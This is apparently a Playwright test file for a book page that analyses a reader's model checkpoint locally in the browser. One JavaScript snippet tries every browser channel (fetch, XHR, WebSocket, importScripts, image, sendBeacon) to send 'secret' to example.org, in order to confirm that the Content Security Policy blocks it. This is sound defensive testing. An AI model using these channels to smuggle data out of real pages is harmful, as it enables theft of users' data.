"""The page for the reader's own checkpoint; the oracle of its numbers is htlib.analyze of the same file."""

from __future__ import annotations

import base64
from collections.abc import Callable
from pathlib import Path

import numpy as np
import pandas as pd
import pytest
import torch
from playwright.sync_api import Page
from safetensors.torch import save_file

import htlib as ht
from tests.browser.conftest import HTML, Visit
from tests.browser.test_access import AXE, assert_no_barriers
from tests.browser.test_pages import SIDEWAYS

SCRIPT = HTML / "_static" / "live"
SETTLED = ".checkpoint-results[data-settled]"
ERROR = ".checkpoint-results .status.error"
# Every way of sending something, tried in the page, or in a worker as the page makes its own.
SEND = """async (addresses) => {
    const source = `const tried = async (address) => {
        const ways = {
            fetch: () => fetch(address, { method: "POST", body: "secret" }),
            request: () => new Promise((resolve, reject) => {
                const request = new XMLHttpRequest();
                request.open("POST", address);
                request.onload = resolve;
                request.onerror = reject;
                request.send("secret");
            }),
            socket: () => new Promise((resolve, reject) => {
                const socket = new WebSocket(address.replace("http", "ws"));
                socket.onopen = resolve;
                socket.onerror = reject;
            }),
            script: () => globalThis.importScripts ? importScripts(address) : Promise.reject(),
            image: () => new Promise((resolve, reject) => {
                const image = new Image();
                image.onload = resolve;
                image.onerror = reject;
                image.src = address;
            }),
        };
        const through = [];
        for (const [name, send] of Object.entries(ways)) {
            try { await send(); through.push(name + " " + address); } catch { /* refused */ }
        }
        return through;
    };`;
    const answer = "onmessage = async ({ data }) => postMessage((await Promise.all(data.map(tried))).flat())";
    const blob = new Blob([source, answer]);
    const worker = new Worker(URL.createObjectURL(blob));
    const inWorker = new Promise((resolve) => { worker.onmessage = ({ data }) => resolve(data); });
    worker.postMessage(addresses);
    const tried = new Function(source + "return tried")();
    const inPage = (await Promise.all(addresses.map(tried))).flat();
    return { page: inPage, worker: await inWorker };
}"""


@pytest.fixture
def page(visit: Visit, book: str) -> Page:
    visit.page.goto(f"{book}book/your-checkpoint.html")
    return visit.page


@pytest.fixture
def give(page: Page) -> Callable[[Path], None]:
    """Choose a file and wait for the end, whatever it is."""

    def give(path: Path) -> None:
        page.locator(".checkpoint-results").evaluate("place => delete place.dataset.settled")
        page.set_input_files(".checkpoint-choose input", path)
        page.locator(f"{SETTLED}, {ERROR}").first.wait_for()

    return give


def table_of(page: Page, folder: Path, number: int = 0) -> pd.DataFrame:
    """Download the table."""
    with page.expect_download() as download:
        page.get_by_role("button", name="Table as CSV").nth(number).click()
    path = folder / download.value.suggested_filename
    download.value.save_as(path)
    return pd.read_csv(path, keep_default_na=True)


def assert_same(found: pd.DataFrame, expected: pd.DataFrame) -> None:
    expected = expected.assign(shape=["x".join(map(str, shape)) for shape in expected["shape"]])
    assert list(found) == list(expected)
    for name in expected:
        if pd.api.types.is_float_dtype(expected[name]):
            np.testing.assert_allclose(found[name], expected[name], rtol=1e-6, atol=1e-9, err_msg=name)
        else:
            assert found[name].tolist() == expected[name].tolist(), name


def weights(scale: float = 1.0) -> dict[str, torch.Tensor]:
    generator = torch.Generator().manual_seed(0)
    spiked = torch.randn(60, 40, generator=generator)
    spiked[0] += 6 * scale
    return {
        "a.weight": spiked,
        "conv.weight": torch.randn(24, 16, 3, 3, generator=generator),
        "b.qkv.weight": torch.randn(90, 30, generator=generator),
        "norm.weight": torch.ones(30),
    }


def test_one_click_shows_a_sample_and_nothing_leaves(
    visit: Visit, page: Page, book: str, tmp_path: Path
) -> None:
    asked: list[str] = []
    page.on("request", lambda request: asked.append(request.url))
    page.get_by_role("button", name="Take the sample").click()
    page.locator(SETTLED).wait_for()
    live = f"{book}_static/live/"
    assert [url for url in asked if url.startswith(live)] == [f"{live}sample.js", f"{live}laboratory.js"]
    sample = tmp_path / "student.safetensors"
    content = (SCRIPT / "sample.js").read_text().split('"')[1]
    sample.write_bytes(base64.b64decode(content))
    assert_same(table_of(page, tmp_path), ht.analyze(sample, progress=False))
    assert visit.outside == []
    assert visit.errors == []


def test_a_readers_file_gives_the_table_of_analyze(visit: Visit, page: Page, give, tmp_path: Path) -> None:
    path = tmp_path / "model.pt"
    torch.save(weights(), path)
    give(path)
    expected = ht.analyze(path, progress=False)
    assert_same(table_of(page, tmp_path), expected)
    status = page.locator(".checkpoint-results .status").inner_text()
    assert f"{len(expected)} analysed, {len(expected.attrs['skipped'])} left out" in status
    page.get_by_text("Left out: 1").click()
    assert "a vector (bias or normalisation)" in page.locator(".rest").inner_text()
    # the shown numbers, of the layer that is chosen by the keyboard
    page.get_by_role("button", name="conv.weight").press("Enter")
    shown = page.locator(".layer").inner_text()
    assert f"{expected.alpha_hill[1]:.4g}" in shown
    assert "9 \N{MULTIPLICATION SIGN} 24 \N{MULTIPLICATION SIGN} 16" in shown
    assert visit.errors == []


def test_two_checkpoints_are_compared(page: Page, give, tmp_path: Path) -> None:
    before, after = tmp_path / "before.safetensors", tmp_path / "after.safetensors"
    save_file(weights(), before)
    save_file(weights(2.0), after)
    give(before)
    page.set_input_files(".offers input", after)
    page.locator("[data-settled=compared]").wait_for()
    found = table_of(page, tmp_path, 1)
    expected = ht.compare_models(before, after, progress=False)
    assert_same(found, expected[[name for name in expected if name in found]])


def test_the_policy_refuses_every_connection(
    visit: Visit, page: Page, book: str, give, tmp_path: Path
) -> None:
    """In the page, and in a worker made like that which holds the file."""
    refused: list[str] = []
    answered: list[str] = []
    page.wait_for_load_state("networkidle")
    page.on("requestfailed", lambda request: refused.append(request.failure or ""))
    page.on("response", lambda response: answered.append(response.url))
    elsewhere = "https://example.org/"
    assert page.evaluate(SEND, [elsewhere]) == {"page": [], "worker": []}
    assert set(refused) == {"csp"}  # by the policy, not for want of a network
    path = tmp_path / "model.pt"
    torch.save(weights(), path)
    give(path)
    answered.clear()
    # from now on the book's own host is out of reach too
    assert page.evaluate(SEND, [elsewhere, book]) == {"page": [], "worker": []}
    page.evaluate(f"navigator.sendBeacon('{book}x', 'secret')")
    page.wait_for_timeout(100)
    assert set(refused) == {"csp"}
    assert [url for url in answered if not url.startswith("blob:")] == []


def test_a_page_without_the_policy_can_send(visit: Visit, book: str) -> None:
    """The control of the test above."""
    visit.page.goto(f"{book}book/glossary.html")
    assert f"fetch {book}" in visit.page.evaluate(SEND, [book])["page"]


@pytest.mark.parametrize(
    ("name", "content", "message"),
    [
        ("empty.safetensors", b"", "empty.safetensors is empty"),
        ("cut.safetensors", (10**6).to_bytes(8, "little") + b'{"a":', "its header claims 1000000 bytes"),
        ("page.pt", b"<!DOCTYPE html><html>", "an HTML page, not a model"),
        ("old.pt", b"\x80\x02\x8a\nl\xfc\x9c", "htlib analyze old.pt"),
    ],
)
def test_a_file_that_is_no_model_gets_one_line(page: Page, give, tmp_path, name, content, message) -> None:
    path = tmp_path / name
    path.write_bytes(content)
    give(path)
    shown = page.locator(ERROR).inner_text()
    assert message in shown
    assert "\n" not in shown
    good = tmp_path / "good.pt"
    torch.save(weights(), good)
    give(good)  # the page is alive
    assert page.locator(".checkpoint-results tbody tr").count() == 5


def test_cancel_keeps_what_is_there(page: Page, tmp_path: Path) -> None:
    path = tmp_path / "large.safetensors"
    generator = torch.Generator().manual_seed(0)
    large = {f"z{i}.weight": torch.randn(1500, 1500, generator=generator) for i in range(6)}
    save_file({"a.weight": torch.randn(40, 30, generator=generator)} | large, path)
    page.set_input_files(".checkpoint-choose input", path)
    page.get_by_role("button", name="a.weight").wait_for()
    page.get_by_role("button", name="Cancel").click()
    page.locator("[data-settled=cancelled]").wait_for()
    assert page.locator(".checkpoint-results tbody tr").count() < 7
    assert page.locator("tr.waiting").count() == 0


def test_results_have_no_barriers_and_fit(visit: Visit, page: Page, give, tmp_path: Path) -> None:
    path = tmp_path / "model.pt"
    torch.save(weights(), path)
    give(path)
    page.evaluate(AXE.read_text(encoding="utf-8"))
    assert_no_barriers(visit, [(1280, "light"), (320, "dark")])
    assert page.evaluate(SIDEWAYS) <= 0
